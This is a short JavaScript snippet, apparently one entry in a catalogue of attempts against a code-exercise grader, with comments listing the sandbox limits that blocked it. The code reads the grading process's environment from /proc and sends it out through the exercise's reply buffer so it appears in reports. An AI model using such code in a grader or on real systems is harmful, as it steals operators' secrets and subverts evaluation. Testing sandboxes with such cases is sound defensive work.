// tries: to read the grader's environment in /proc
// stopped by: the limit of open files; another user; a namespace of its own for processes, without /proc
// exercise: 02-activations/relu
/** What was found goes out as console text, which reports show. */
function show(text) {
  const units = Buffer.from(String(text).slice(0, 2000), "utf16le");
  const size = Buffer.alloc(4);
  size.writeUInt32LE(units.length / 2);
  replies.load = [4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, ...size, ...units];
}
show(require("fs").readFileSync("/proc/__PARENT_PID__/environ", "utf8"));
